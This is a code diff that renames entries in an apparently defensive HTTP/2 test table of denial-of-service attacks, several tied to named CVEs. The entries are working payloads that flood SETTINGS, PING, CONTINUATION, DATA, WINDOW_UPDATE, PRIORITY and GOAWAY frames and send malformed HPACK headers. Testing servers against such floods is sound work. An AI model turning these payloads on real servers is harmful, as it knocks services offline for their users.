@@ -93,20 +93,20 @@ export const ATTACKS: Record<string, Attack> = {
       return Buffer.concat([request(stream), frame(WINDOW_UPDATE, 0, stream, number(0))]);
     });
   },
-  'CVE-2019-9515: SETTINGS without end': same(20_000, settings),
-  'SETTINGS without end, responses unread': unread(same(20_000, settings)),
+  'CVE-2019-9515: endless SETTINGS': same(20_000, settings),
+  'endless SETTINGS, responses unread': unread(same(20_000, settings)),
   'a thousand settings in one frame': once(
     frame(SETTINGS, 0, 0, Buffer.concat(Array.from({ length: 1000 }, () => setting(0x4242, 1)))),
   ),
-  'CVE-2019-9512: PING without end': same(20_000, ping),
-  'PING without end, responses unread': unread(same(20_000, ping)),
+  'CVE-2019-9512: endless PING': same(20_000, ping),
+  'endless PING, responses unread': unread(same(20_000, ping)),
   'unsolicited PING acknowledgements': same(20_000, frame(PING, ACK, 0, Buffer.alloc(8))),
-  'CVE-2024-27983: CONTINUATION without end': async session => {
+  'CVE-2024-27983: endless CONTINUATION': async session => {
     await session.send(OPENING, frame(HEADERS, END_STREAM, 1, requestBlock()));
     const fields = literals({ x: 'y'.repeat(100) });
     await flood(session, 20_000, () => frame(CONTINUATION, 0, 1, fields));
   },
-  'empty CONTINUATION without end': async session => {
+  'endless empty CONTINUATION': async session => {
     await session.send(OPENING, frame(HEADERS, END_STREAM, 1, requestBlock()));
     await flood(session, 20_000, () => frame(CONTINUATION, 0, 1));
   },
@@ -114,23 +114,23 @@ export const ATTACKS: Record<string, Attack> = {
     await session.send(OPENING, frame(HEADERS, END_STREAM, 1, requestBlock()));
     session.socket.end(frame(CONTINUATION, 0, 1, literals({ x: 'y' })));
   },
-  'CVE-2019-9518: empty DATA without end': async session => {
+  'CVE-2019-9518: endless empty DATA': async session => {
     await session.send(OPENING, frame(HEADERS, END_HEADERS, 1, requestBlock('/', post)));
     await flood(session, 50_000, () => frame(DATA, 0, 1));
   },
-  'WINDOW_UPDATE of one without end': same(20_000, frame(WINDOW_UPDATE, 0, 0, number(1))),
+  'endless WINDOW_UPDATE of one': same(20_000, frame(WINDOW_UPDATE, 0, 0, number(1))),
   'CVE-2026-21714: WINDOW_UPDATE after GOAWAY': async session => {
     await session.send(OPENING, frame(WINDOW_UPDATE, 0, 0, number(0x7fffffff)));
     await flood(session, 20_000, () => frame(WINDOW_UPDATE, 0, 0, number(0x7fffffff)));
   },
-  'PRIORITY without end': async session => {
+  'endless PRIORITY': async session => {
     await session.send(OPENING);
     await flood(session, 20_000, index => frame(PRIORITY, 0, streamOf(index), Buffer.from([0, 0, 0, 0, 16])));
   },
-  'GOAWAY without end': same(10_000, frame(GOAWAY, 0, 0, Buffer.alloc(8))),
+  'endless GOAWAY': same(10_000, frame(GOAWAY, 0, 0, Buffer.alloc(8))),
   'CVE-2025-59465: malformed HPACK': once(header(1, Buffer.from([0xff, 0xff, 0xff, 0xff, 0x0f]))),
   'truncated HPACK': once(header(1, Buffer.from([0, 0x50, 0x41]))),
-  'CVE-2026-48937: malformed HPACK, and then PING without end': async session => {
+  'CVE-2026-48937: malformed HPACK, and then endless PING': async session => {
     await session.send(OPENING, header(1, Buffer.from([0xff, 0xff, 0xff, 0xff, 0x0f])));
     await flood(session, 20_000, () => ping);
   },
